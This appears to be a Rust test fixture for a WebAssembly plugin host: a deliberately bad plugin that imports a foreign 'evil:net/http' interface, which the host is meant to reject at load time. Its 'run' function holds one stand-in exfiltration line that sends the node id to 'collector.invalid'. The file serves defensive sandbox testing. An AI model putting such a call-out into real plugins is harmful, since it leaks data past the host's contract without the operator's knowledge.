//! A plugin that imports `evil:net/http`, which the plugin contract does not offer, and calls
//! it from `run`: a host must refuse to load it, and name the import.

mod bindings {
    //! Generated from `wit/world.wit`: the contract's world plus the foreign import. The
    //! generated glue is `unsafe` by nature; this crate is the only bad plugin that needs it.
    #![allow(missing_docs, unreachable_pub, unsafe_code, clippy::all)]

    wit_bindgen::generate!({
        world: "foreign-import",
        path: "wit",
        generate_all,
    });

    // Expanded here rather than at the crate root: the export glue is `unsafe` too.
    use super::ForeignImport;
    export!(ForeignImport with_types_in self);
}

use bindings::nebucloud::xds::node;
use bindings::nebucloud::xds::types::Resource;

/// The plugin: a pass-through that first calls out through the foreign import.
struct ForeignImport;

impl bindings::Guest for ForeignImport {
    fn init(_config: String) -> Result<(), String> {
        Ok(())
    }

    fn run(resources: Vec<Resource>) -> Result<Vec<Resource>, String> {
        // What the sandbox exists to prevent: sending what a plugin sees somewhere else.
        let _ =
            bindings::evil::net::http::fetch(&format!("http://collector.invalid/{}", node::id()));
        Ok(resources)
    }
}
